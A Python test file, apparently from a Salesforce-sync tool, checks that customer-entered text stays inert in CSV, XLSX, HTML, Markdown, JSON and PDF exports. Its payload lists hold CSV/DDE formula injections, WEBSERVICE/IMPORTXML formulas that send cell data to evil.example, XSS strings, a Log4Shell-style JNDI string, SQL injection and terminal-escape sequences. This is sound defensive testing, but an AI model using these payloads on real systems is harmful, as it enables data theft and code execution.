"""What a customer can type: through every format, nothing is obeyed, hidden, or lost unsaid."""

from __future__ import annotations

import re
import shutil
import subprocess
import sys
import unicodedata
from contextlib import contextmanager
from pathlib import Path
from typing import TYPE_CHECKING

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape
from reportlab.pdfbase.ttfonts import TTFontFile

from sfsync.exports import lettering
from sfsync.exports.direction import RIGHT_TO_LEFT, joined
from sfsync.exports.inert import escaped, guarded, unguarded
from sfsync.ledger.apply import apply
from sfsync.ledger.model import (
    Address,
    CustomerChange,
    CustomerContent,
    InvoiceContent,
    LineContent,
    PageOfChanges,
    ProductKey,
)
from tests.cli.command_line import start
from tests.exports import file_readers as read
from tests.ledger.ledger_books import account_id, begin, content, create, new_ledger, outcome

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.cli.command_line import Done

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","Refund")', "+1+1", "-1+1",
    "@SUM(A1:A9)", "{=SUM(1)}", '=WEBSERVICE("http://evil.example/"&A1)', "\t=1+1", "\r=1+1",
    "\n=1+1", " =1+1", "'=1+1",
    "''=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)", '=""&1',
    '=IMPORTXML("http://evil.example","//a")', "-2+3+cmd|' /C calc'!D2", "%0A=1", "|calc", "=",
    "-", "--1", "'", "'t Hart BV", "1E5", "-5", "007", "1,234.50", "TRUE", "#REF!",
)  # fmt: skip
MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</td></tr></table><h1>x",
    "<para>unclosed", "</para>", "&lt;b&gt; &amp; &#61;", "[link](http://evil.example)",
    "![i](file:///etc/passwd)", "a|b|c", "\\|", "`code`", "**bold**", "[bold]x[/bold]", "[/]",
    "<a href='javascript:alert(1)'>x</a>", "http://evil.example/", "mailto:a@evil.example",
    "www.evil.example", "]]>", "<!-- c -->", "{{7*7}}", "${jndi:ldap://evil}", "%s%n", "'; DROP--",
)  # fmt: skip
CONTROLS = (
    "\x1b[2J\x1b[31mred", "\x9b31mc1", "\x1b]0;title\x07", "a\x00b", "a\nb", "a\r\nb", "a\tb",
    "a\u2028b\u2029c", "\u202egnp.exe", "\u2066x\u2069", "zero\u200bwidth", "\ufeffbom", "a\u00adb",
    "\u115fblank\u3164", "tag\U000e0041\U000e0042", "\\x1b", "\\n", "C:\\new\\x41", "\\\\", "\\",
    "_x000D_", "_x0041_x", "\uffff", "\x7f", "e\u0301", "会社 名", "مرحبا", "שלום", "😀", "नमस्ते",
    " leading and trailing ",
)  # fmt: skip
LONG = "0123456789" * 4_000
FORMULA = re.compile("[=+@\t\r\n\uff1d\uff0b\uff0d\uff20-]")
PAYLOADS = (*FORMULAS, *MARKUP, *CONTROLS, LONG)


@pytest.fixture(scope="module")
def ledger(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A ledger in which each payload stands in every text of one customer and one invoice."""
    path = tmp_path_factory.mktemp("hostile") / "books.db"
    numbers = range(1, len(PAYLOADS) + 1)
    with new_ledger(path) as ledger:
        run_id = begin(ledger)
        with ledger.transaction():
            page = PageOfChanges(
                records=tuple(outcome(number) for number in numbers),
                customers=tuple(
                    _customer(n, text) for n, text in zip(numbers, PAYLOADS, strict=True)
                ),
                creates=tuple(
                    create(n, _body(n, text)) for n, text in zip(numbers, PAYLOADS, strict=True)
                ),
            )
            apply(ledger, run_id, page)
    return path


def _customer(number: int, text: str) -> CustomerChange:
    address = Address(text, text, text, text, text)
    known = CustomerContent(text, None, text, text, text, text, None, address)
    return CustomerChange(account_id(number), "created", "{}", content=known)


def _body(number: int, text: str) -> InvoiceContent:
    plain = content(customer=number)
    line = LineContent(ProductKey(text), text, plain.lines[0].quantity, None, None, 10_000)
    return InvoiceContent(
        number, text, plain.document_date, plain.due_date, "USD", 2, 10_000, (line,), text, text,
        text, None, {"note": text},
    )  # fmt: skip


def export(ledger: Path, what: str, path: Path, *more: str) -> Done:
    """Run one export, sorted as the payloads are."""
    order = () if what == "customers" else ("--sort", "draft")
    argv = ["export", what, "-o", str(path), "--ledger", str(ledger), *order, *more]
    done = start(argv)
    assert done.status == 0, done.err
    return done


INVOICE_TEXTS = ("customer.name", "description", "sales_rep", "region", "properties.note")
LINE_TEXTS = ("customer.name", "product", "description")
CUSTOMER_TEXTS = ("name", "industry", "phone", "email", "tax_id", "address.street", "address.city")
TEXTS = {"invoices": INVOICE_TEXTS, "lines": LINE_TEXTS, "customers": CUSTOMER_TEXTS}
EACH = pytest.mark.parametrize("what", TEXTS)


@EACH
def test_csv_and_tsv_can_be_undone(ledger: Path, tmp_path: Path, what: str) -> None:
    """The rules of docs/exports.md give back every text; no cell begins like a formula."""
    fields = ("--fields", ",".join(TEXTS[what]))
    export(ledger, what, tmp_path / "a.csv", *fields)
    export(ledger, what, tmp_path / "a.tsv", *fields)
    records = read.csv_records(tmp_path / "a.csv")
    rows = read.tsv_rows(tmp_path / "a.tsv")
    for payload, record, row in zip(PAYLOADS, records, rows, strict=True):
        assert {read.unescaped(unguarded(cell)) for cell in record.values()} == {payload}
        assert {read.unescaped(cell) for cell in row} == {payload}
        for cell in record.values():
            is_number = re.fullmatch(r"-?\d+(\.\d+)?", cell)
            assert is_number or not FORMULA.match(cell), payload
    raw = (tmp_path / "a.csv").read_text(encoding="utf-8")
    assert not any(unicodedata.category(each) in {"Cc", "Cf"} and each != "\n" for each in raw)


@EACH
def test_json_is_unaltered(ledger: Path, tmp_path: Path, what: str) -> None:
    """Programs get exactly what Salesforce has."""
    export(ledger, what, tmp_path / "a.json", "--fields", ",".join(TEXTS[what]))
    for payload, row in zip(PAYLOADS, read.json_rows(tmp_path / "a.json"), strict=True):
        assert set(row.values()) == {payload}


@EACH
def test_a_workbook_holds_texts_only(ledger: Path, tmp_path: Path, what: str) -> None:
    """No formula, no link, nothing from outside; what is cut says so, in its cell and on stderr."""
    path = tmp_path / "a.xlsx"
    done = export(ledger, what, path, "--fields", ",".join(TEXTS[what]))
    parts = read.workbook_parts(path)
    assert not any(re.search(r"<f[ >]|<hyperlink|externalLink", text) for text in parts.values())
    assert "TargetMode" not in "".join(parts.values())
    sheet = openpyxl.load_workbook(path).worksheets[0]
    for payload, row in zip(PAYLOADS, sheet.iter_rows(min_row=2), strict=True):
        assert {cell.data_type for cell in row} <= {"s", "inlineStr"}, payload
        for cell in row:
            if payload is LONG:
                assert cell.value.endswith("… [cut here: 40,000 characters]")
                assert len(cell.value) == 32_767
            else:
                # Excel reads _x0041_ as a letter; openpyxl leaves that to its callers.
                assert read.unescaped(unescape(cell.value)) == payload
    assert done.err.count("is cut") == len(TEXTS[what])


@EACH
def test_a_page_shows_texts_only(ledger: Path, tmp_path: Path, what: str) -> None:
    """No tag and no attribute but our own, and each cell reads as the text, made visible."""
    path = tmp_path / "a.html"
    export(ledger, what, path, "--fields", ",".join(TEXTS[what]))
    page = read.Page(path)
    assert page.tags <= {
        *("html", "head", "meta", "title", "style", "body", "main", "h1", "div", "table", "thead"),
        *("tbody", "tr", "th", "td", "dl", "dt", "dd"),
    }
    assert set(page.attributes) <= {"lang", "charset", "http-equiv", "content", "name", "class",
                                    "scope"}  # fmt: skip
    rows = [row for row in page.rows if row]
    for payload, row in zip(PAYLOADS, rows, strict=True):
        assert {read.unescaped(cell) for cell in row} == {payload}


@EACH
def test_markdown_cells_stay_cells(ledger: Path, tmp_path: Path, what: str) -> None:
    """As many cells as columns, and no mark that could be a link, an image or HTML."""
    path = tmp_path / "a.md"
    export(ledger, what, path, "--fields", ",".join(TEXTS[what]))
    rows = read.markdown_rows(path)
    for payload, row in zip(PAYLOADS, rows, strict=True):
        assert len(row) == len(TEXTS[what]), payload
        assert {read.unescaped(cell).strip() for cell in row} == {payload.strip()}, payload
    text = path.read_text(encoding="utf-8")
    assert not re.search(r"(?<!\\)[<\[`]|(?<!\\):(?=//)", text)


@EACH
def test_a_pdf_shows_each_text_or_says_what_it_lacks(
    ledger: Path, tmp_path: Path, what: str
) -> None:
    """Extracted text is the source; letters without a glyph are boxes, and told of."""
    path = tmp_path / "a.pdf"
    done = export(ledger, what, path, "--fields", TEXTS[what][0])
    shown = "".join("".join(read.pdf_pages(path)).split())
    glyphs = TTFontFile(str(lettering.__file__).replace("lettering.py", "fonts/DejaVuSans.ttf"))
    missing: set[str] = set()
    for payload in PAYLOADS:
        if payload is LONG:
            # It goes on over pages, between their feet.
            assert len(re.findall("0123456789", shown)) >= 3_900
            continue
        expected = ""
        for letter in "".join(escaped(joined(unicodedata.normalize("NFC", payload))).split()):
            has = ord(letter) in glyphs.charToGlyph and not lettering.needs_layout(letter)
            expected += letter if has else "□"
            missing |= set() if has else {letter}
        # What is turned is read back by rules of the reader's own (test_direction.py).
        turned = RIGHT_TO_LEFT.search(expected)
        assert set(expected) <= set(shown) if turned else expected in shown, payload
    assert "no glyph for" in done.err
    assert "change with their neighbours" in done.err
    assert "beyond U+FFFF" in done.err
    assert len(missing) > 10


@pytest.mark.long
@pytest.mark.skipif(not shutil.which("chromium"), reason="no browser to read the page with")
def test_a_browser_finds_nothing_to_run(ledger: Path, tmp_path: Path) -> None:
    """A real browser, scripts allowed, makes the same page of it: our tags, and each text whole."""
    path = tmp_path / "a.html"
    export(ledger, "invoices", path, "--fields", "customer.name,description")
    command = ["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--dump-dom"]
    profile = f"--user-data-dir={tmp_path / 'profile'}"
    done = subprocess.run(
        [*command, profile, path.as_uri()], capture_output=True, timeout=120, check=True
    )
    seen = tmp_path / "seen.html"
    seen.write_bytes(done.stdout)
    before, after = read.Page(path), read.Page(seen)
    assert after.tags == before.tags
    assert after.rows == before.rows


@given(st.text(st.characters(exclude_categories=())) | st.text(";'=+-@＝＋－＠ \t\r\n\\n1a"))  # noqa: RUF001 - the full-width signs
def test_both_rules_can_be_undone(text: str) -> None:
    """Whatever the text: escaped it is visible, guarded it is no formula, and both go back."""
    shown = escaped(text)
    assert shown.isprintable() or any(each in shown for each in "\u00a0\u202f\u2009\u3000")
    assert read.unescaped(shown) == text
    assert unguarded(guarded(shown)) == shown
    assert not FORMULA.match(guarded(shown))
    assert not [cell for cell in guarded(shown).split(";") if cell[:1] in tuple("=+-@＝＋－＠\t\r")]  # noqa: RUF001 - as above


WATCHED = {"open", "socket.connect", "socket.getaddrinfo", "subprocess.Popen", "os.system"}


@contextmanager
def reached() -> Iterator[list[str]]:
    """Whatever is opened, called or connected to meanwhile, by its name."""
    seen: list[str] = []
    listening = [True]

    def heard(event: str, arguments: tuple[object, ...]) -> None:
        if listening and event in WATCHED and not isinstance(arguments[0], int):
            seen.append(f"{event} {arguments[0]}")

    sys.addaudithook(heard)
    try:
        yield seen
    finally:
        listening.clear()


def invoices_as_paper(ledger: Path, folder: Path, step: int) -> None:
    """The papers of every so many payloads: each says its text and reaches for nothing."""
    for number, payload in list(enumerate(PAYLOADS, 1))[::step]:
        path = folder / f"{number}.pdf"
        with reached() as seen:
            done = start(
                ["invoice", "pdf", f"D-{number:06}", "-o", str(path), "--ledger", str(ledger)]
            )
        assert done.status == 0, (payload, done)
        ours = (str(folder), str(ledger), sys.prefix, str(Path(lettering.__file__).parents[1]))
        strange = [
            one for one in seen if not one.startswith(tuple(f"open {each}" for each in ours))
        ]
        assert not strange, payload
        raw = path.read_bytes()
        assert not re.search(rb"/(URI|JavaScript|JS|Launch|GoToR|EmbeddedFile|SubmitForm)\b", raw)
        if payload.isascii() and payload.isprintable() and payload is not LONG:
            shown = "".join("".join(read.pdf_pages(path)).split())
            assert shown.count("".join(escaped(payload).split())) >= 2, payload


def test_the_paper_of_an_invoice_shows_texts_and_reaches_for_nothing(
    ledger: Path, tmp_path: Path
) -> None:
    """Markup, formulas and addresses are set as they are: no link, script, file or connection."""
    invoices_as_paper(ledger, tmp_path, 12)


@pytest.mark.long
def test_the_paper_of_every_text_reaches_for_nothing(ledger: Path, tmp_path: Path) -> None:
    """The same of each text."""
    invoices_as_paper(ledger, tmp_path, 1)
